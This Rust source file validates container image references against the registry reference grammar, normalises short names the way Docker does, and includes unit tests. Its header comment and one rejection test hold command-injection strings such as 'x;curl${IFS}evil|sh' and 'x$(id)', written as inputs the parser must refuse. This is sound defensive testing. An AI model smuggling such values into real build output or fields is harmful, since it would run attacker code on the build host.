//! Image references, validated by the distribution reference grammar
//! (`github.com/distribution/reference`, `regexp.go`). Build output is untrusted: a `RUN`
//! step can print `Built image x;curl …|sh`, so nothing that is not a valid reference is
//! ever taken as the built image.

use std::fmt;
use std::sync::OnceLock;

use regex::Regex;

/// A syntactically valid image reference, kept exactly as written.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct ImageRef {
    text: String,
    domain: Option<String>,
    path: String,
    tag: Option<String>,
    digest: Option<String>,
}

/// Why a token is not an image reference.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ImageRefError {
    /// Nothing was given.
    #[error("empty image reference")]
    Empty,
    /// An image id (`sha256:…`) names no repository.
    #[error("'{0}' is an image id, not a reference")]
    ImageId(String),
    /// Not the reference grammar.
    #[error("'{0}' is not a valid image reference")]
    Invalid(String),
    /// The name is over the grammar's length limit.
    #[error("image name in '{0}' is longer than 255 characters")]
    NameTooLong(String),
}

const NAME_TOTAL_LENGTH_MAX: usize = 255;

fn grammar() -> &'static Regex {
    static GRAMMAR: OnceLock<Regex> = OnceLock::new();
    GRAMMAR.get_or_init(|| {
        let domain_component = r"(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])";
        let domain_name = format!(r"{domain_component}(?:\.{domain_component})*");
        let ipv6 = r"\[(?:[a-fA-F0-9:]+)\]";
        let host = format!(r"(?:{domain_name}|{ipv6})");
        let domain = format!(r"{host}(?::[0-9]+)?");
        let alnum = r"[a-z0-9]+";
        let separator = r"(?:[_.]|__|[-]+)";
        let path_component = format!(r"{alnum}(?:{separator}{alnum})*");
        let remote = format!(r"{path_component}(?:/{path_component})*");
        let tag = r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}";
        let digest = r"[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}";
        let pattern = format!(r"^(?:(?P<domain>{domain})/)?(?P<path>{remote})(?::(?P<tag>{tag}))?(?:@(?P<digest>{digest}))?$");
        Regex::new(&pattern).expect("the reference grammar is a valid regex")
    })
}

fn path_component() -> &'static Regex {
    static P: OnceLock<Regex> = OnceLock::new();
    P.get_or_init(|| Regex::new(r"^[a-z0-9]+(?:(?:[_.]|__|[-]+)[a-z0-9]+)*$").expect("valid regex"))
}

fn image_id() -> &'static Regex {
    static ID: OnceLock<Regex> = OnceLock::new();
    ID.get_or_init(|| Regex::new(r"(?i)^(?:sha256:)?[0-9a-f]{64}$").expect("valid regex"))
}

impl ImageRef {
    /// Parses `text` as a reference. Image ids (`sha256:<64 hex>` or bare 64 hex) are
    /// refused: a persisted id breaks tag-based clean-up, and it names no repository.
    pub fn parse(text: &str) -> Result<ImageRef, ImageRefError> {
        if text.is_empty() {
            return Err(ImageRefError::Empty);
        }
        // An error shows the text: never a secret or a terminal control in it.
        let shown = || crate::screen::printable(&crate::redact::redact(text));
        if image_id().is_match(text) {
            return Err(ImageRefError::ImageId(shown()));
        }
        let caps = grammar().captures(text).ok_or_else(|| ImageRefError::Invalid(shown()))?;
        let mut domain = caps.name("domain").map(|m| m.as_str().to_owned());
        let mut path = caps.name("path").map_or_else(String::new, |m| m.as_str().to_owned());
        // Docker treats the first component as a registry only when it has a dot or a
        // port or is `localhost`; otherwise it is the first path component, and must be
        // one (lower case).
        if let Some(first) = domain.take() {
            if first.contains(['.', ':']) || first == "localhost" || first.starts_with('[') {
                domain = Some(first);
            } else if path_component().is_match(&first) {
                path = format!("{first}/{path}");
            } else {
                return Err(ImageRefError::Invalid(shown()));
            }
        }
        let name_len = domain.as_ref().map_or(0, |d| d.len() + 1) + path.len();
        if name_len > NAME_TOTAL_LENGTH_MAX {
            return Err(ImageRefError::NameTooLong(shown()));
        }
        Ok(ImageRef {
            text: text.to_owned(),
            domain,
            path,
            tag: caps.name("tag").map(|m| m.as_str().to_owned()),
            digest: caps.name("digest").map(|m| m.as_str().to_owned()),
        })
    }

    /// The reference exactly as written.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.text
    }

    /// The fully qualified reference, normalised the way Docker and containerd do:
    /// `ubuntu` is `docker.io/library/ubuntu:latest`, `index.docker.io` is `docker.io`.
    #[must_use]
    pub fn normalized(&self) -> String {
        let domain = match self.domain.as_deref() {
            None | Some("index.docker.io") => "docker.io",
            Some(domain) => domain,
        };
        let library = if domain == "docker.io" && !self.path.contains('/') { "library/" } else { "" };
        let mut out = format!("{domain}/{library}{}", self.path);
        match (&self.tag, &self.digest) {
            (None, None) => out.push_str(":latest"),
            (tag, digest) => {
                if let Some(tag) = tag {
                    out.push(':');
                    out.push_str(tag);
                }
                if let Some(digest) = digest {
                    out.push('@');
                    out.push_str(digest);
                }
            }
        }
        out
    }

    /// The registry host, when the reference names one.
    #[must_use]
    pub fn domain(&self) -> Option<&str> {
        self.domain.as_deref()
    }

    /// The repository path.
    #[must_use]
    pub fn path(&self) -> &str {
        &self.path
    }

    /// The tag, when given.
    #[must_use]
    pub fn tag(&self) -> Option<&str> {
        self.tag.as_deref()
    }

    /// The digest, when given.
    #[must_use]
    pub fn digest(&self) -> Option<&str> {
        self.digest.as_deref()
    }
}

impl fmt::Display for ImageRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_references_in_every_form() {
        for ok in [
            "openshell/sandbox-from:1786000000",
            "openshell/sandbox-from-nemoclaw:abcd1234",
            "ubuntu",
            "localhost:5000/openshell/sandbox:tag",
            "registry.example.com/a/b__c/d-e.f:v1.2",
            "ghcr.io/nvidia/openshell-community/sandboxes/base:latest",
            "busybox@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "[::1]:5000/x:y",
        ] {
            assert!(ImageRef::parse(ok).is_ok(), "{ok}");
        }
    }

    #[test]
    fn refuses_ids_metacharacters_and_bad_case() {
        for bad in [
            "",
            "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "x;curl${IFS}evil|sh",
            "x$(id)",
            "`id`",
            "Upper/Case",
            "a:b:c",
            "-leading",
            "trailing-",
            "a//b",
            "x:tag with space",
        ] {
            assert!(ImageRef::parse(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn normalises_short_names_like_docker() {
        let n = |s: &str| ImageRef::parse(s).unwrap().normalized();
        assert_eq!(n("ubuntu"), "docker.io/library/ubuntu:latest");
        assert_eq!(n("openshell/sandbox-from:1"), "docker.io/openshell/sandbox-from:1");
        assert_eq!(n("index.docker.io/library/node:22"), "docker.io/library/node:22");
        assert_eq!(n("localhost:5000/x"), "localhost:5000/x:latest");
        assert_eq!(
            n("ghcr.io/nvidia/a@sha256:0123456789abcdef0123456789abcdef"),
            "ghcr.io/nvidia/a@sha256:0123456789abcdef0123456789abcdef"
        );
    }

    #[test]
    fn splits_domain_path_tag_and_digest() {
        let r = ImageRef::parse("localhost/foo/bar:1").unwrap();
        assert_eq!(r.domain(), Some("localhost"));
        assert_eq!(r.path(), "foo/bar");
        assert_eq!(r.tag(), Some("1"));
        let r = ImageRef::parse("docker.io/library/ubuntu@sha256:0123456789abcdef0123456789abcdef").unwrap();
        assert_eq!(r.domain(), Some("docker.io"));
        assert!(r.digest().is_some());
    }
}
